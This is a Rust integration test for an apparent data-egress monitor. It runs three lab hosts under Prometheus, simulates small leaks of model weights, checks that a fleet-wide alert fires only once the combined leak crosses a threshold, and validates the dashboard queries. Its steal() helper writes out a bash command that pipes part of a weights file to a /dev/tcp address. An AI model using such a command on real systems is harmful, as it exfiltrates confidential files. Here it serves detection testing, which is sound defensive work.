//! A small fleet under a real Prometheus: its rules over several agents, and every query of the dashboard.

use std::{
    collections::BTreeSet,
    fs,
    io::Read,
    net::{Ipv4Addr, TcpListener},
    path::PathBuf,
    thread,
};

use serde_json::Value;
use tests::lab::{
    MIB,
    agent::{Agent, Config, Start},
    alert::Alert,
    fleet::Host,
    prometheus::{PROGRAM, Prometheus},
    wait_for,
    weights::Weights,
};

use super::{ARRIVES_WITHIN, expect_ok, prometheus::repository};
use crate::world::{ASSET, Scene, World};

const PORT: u16 = 9464;
/// Size of the model on each host.
const BYTES: u64 = 32 * MIB;
/// Two of these are below 1 % of it, three are above.
const EACH: u64 = BYTES * 4 / 1000;
const RECORDED: &str = "asset:weighbridge_egress_bytes:increase24h{asset=\"llm\"}";

/// A host with an agent of its own and files of its own.
struct Watched {
    host: Host,
    agent: Agent,
    shard: PathBuf,
}

/// Three hosts lose 0.4 % each: below every line of a single host, and together below the fleet's line until the third.
pub(super) fn fleet(w: &mut World) {
    for tool in [PROGRAM, "nsenter", "ip", "bash"] {
        World::needs(tool);
    }
    let scene = w.prepare();
    let mut fleet: Vec<Watched> = (0..3).map(|number| watched(&scene, number)).collect();
    let rules = scene.work.join("fleet.rules.yml");
    let text = fs::read_to_string(repository().join("rules/prometheus/weighbridge-fleet.rules.yml"))
        .expect("the rules are there");
    assert!(text.contains("interval: 1m"), "the interval that is shortened here");
    fs::write(&rules, text.replace("interval: 1m", "interval: 1s")).expect("a scratch file");
    let targets: Vec<String> = fleet.iter().map(|one| format!("{}:{PORT}", one.host.address)).collect();
    let prometheus = expect_ok(Prometheus::start(&scene.work.join("prometheus"), &targets, &[&rules]));
    let wait = |query: &str| {
        let is_so = || expect_ok(prometheus.value(query)).map(|_| ());
        assert!(wait_for(ARRIVES_WITHIN, is_so).is_some(), "{query} does not come true");
    };
    // A counter's growth is told from several scrapes: what comes with the first one is no growth.
    wait("count(count_over_time(up{job=\"weighbridge\"}[1m]) >= 5) == 3");
    let fires = |name: &str| {
        let alerts = expect_ok(prometheus.alerts());
        alerts.into_iter().find(|alert| alert["labels"]["alertname"] == name && alert["state"] == "firing")
    };

    for one in &fleet[..2] {
        steal(&scene, one);
    }
    // Both are weighed, and every rule has had several turns since.
    let both = 2 * EACH;
    wait(&format!("sum(weighbridge_egress_bytes_total{{asset=\"llm\",control=\"uncontrolled\"}}) == {both}"));
    wait(&format!("min_over_time({RECORDED}[4s]) >= {both}"));
    assert!(fires("WeighbridgeFleetShareOfWeights").is_none(), "0.8 % is below the line");

    steal(&scene, &fleet[2]);
    let fired = wait_for(ARRIVES_WITHIN, || fires("WeighbridgeFleetShareOfWeights"));
    let fired = fired.expect("1.2 % of three hosts together is above the fleet's line");
    assert_eq!(fired["labels"]["asset"], ASSET);
    assert_eq!(fired["labels"]["severity"], "critical");
    assert!(fires("WeighbridgeFleetFanOut").is_none(), "three hosts are not many");
    let all = 3 * EACH;
    wait(&format!("sum(weighbridge_egress_bytes_total{{asset=\"llm\",control=\"uncontrolled\"}}) == {all}"));

    dashboard(&prometheus);
    for one in fleet.drain(..) {
        let (alerts, _) = expect_ok(one.agent.stop());
        let alarms = alerts.iter().filter(|alert| alert.alarms()).map(Alert::rule);
        // That it was stopped is said by itself.
        let alarms: Vec<&str> = alarms.filter(|rule| *rule != "WB-0011").collect();
        assert!(alarms.is_empty(), "no host alone has anything to say: {alarms:?}");
    }
}

fn watched(scene: &Scene<'_>, number: u8) -> Watched {
    let host = expect_ok(Host::new(number));
    let dir = scene.work.join(format!("host{number}"));
    fs::create_dir(&dir).expect("a folder for the host");
    let files = scene.controlled.join(format!("host{number}"));
    let model = expect_ok(Weights::safetensors(&files, 1, BYTES, 7000 + u64::from(number)));
    let mut config = expect_ok(Config::new(&dir, scene.world.controlled.path())).asset(ASSET, &model.dir);
    config.listen = (host.address, PORT).into();
    config.start = Start { launcher: host.launcher(), ..Start::default() };
    let agent = expect_ok(Agent::start(&scene.world.binary, config, &dir.join("weighbridge.yaml")));
    Watched { host, agent, shard: model.files[0].clone() }
}

/// Sends the first [`EACH`] bytes of the host's model to an address that nobody listed.
fn steal(scene: &Scene<'_>, from: &Watched) {
    let listener = TcpListener::bind((from.host.gateway, 0)).expect("the lab's end of the link");
    let port = listener.local_addr().expect("an address").port();
    let receiver = thread::spawn(move || {
        let mut bytes = Vec::new();
        let (mut stream, _) = listener.accept().expect("the thief connects");
        stream.read_to_end(&mut bytes).expect("and sends");
        bytes.len() as u64
    });
    let gateway: Ipv4Addr = from.host.gateway;
    let text = format!("exec head -c {EACH} '{}' > /dev/tcp/{gateway}/{port}", from.shard.display());
    scene.run(from.host.command("bash").args(["-c", &text]));
    assert_eq!(receiver.join().expect("the receiver ends"), EACH);
}

/// Every query of the dashboard is one that Prometheus takes, finds something in what agents say, and gives the labels that
/// the panel's legend names.
fn dashboard(prometheus: &Prometheus) {
    let text = fs::read_to_string(repository().join("deploy/grafana/weighbridge.json"))
        .expect("the dashboard is there");
    let board: Value = serde_json::from_str(&text).expect("the dashboard is JSON");
    let panels = board["panels"].as_array().expect("panels");
    let mut queries = 0;
    let mut ids = BTreeSet::new();
    for panel in panels {
        let title = panel["title"].as_str().expect("each panel has a title");
        assert!(ids.insert(panel["id"].as_u64()), "{title}: its id is another's");
        for target in panel["targets"].as_array().into_iter().flatten() {
            let written = target["expr"].as_str().expect("each target has a query");
            // Not `.*`: that matches also where a label of this name does not exist.
            let asked = ["$instance", "$asset"]
                .iter()
                .fold(written.to_owned(), |query, variable| query.replace(variable, ".+"));
            let asked = asked.replace("$__rate_interval", "1m");
            assert!(
                !asked.contains('$'),
                "{title}: a variable that the dashboard does not define: {written}"
            );
            let answer = prometheus.query(&asked).unwrap_or_else(|error| panic!("{title}: {error:#}"));
            assert!(!answer.is_empty(), "{title}: nothing answers {asked}");
            let legend = target["legendFormat"].as_str().unwrap_or_default();
            for label in legend.split("{{").skip(1).filter_map(|rest| rest.split("}}").next()) {
                assert!(answer[0]["metric"][label].is_string(), "{title}: no label {label} in {answer:?}");
            }
            queries += 1;
        }
    }
    assert!(queries >= 20, "{queries} queries");
}
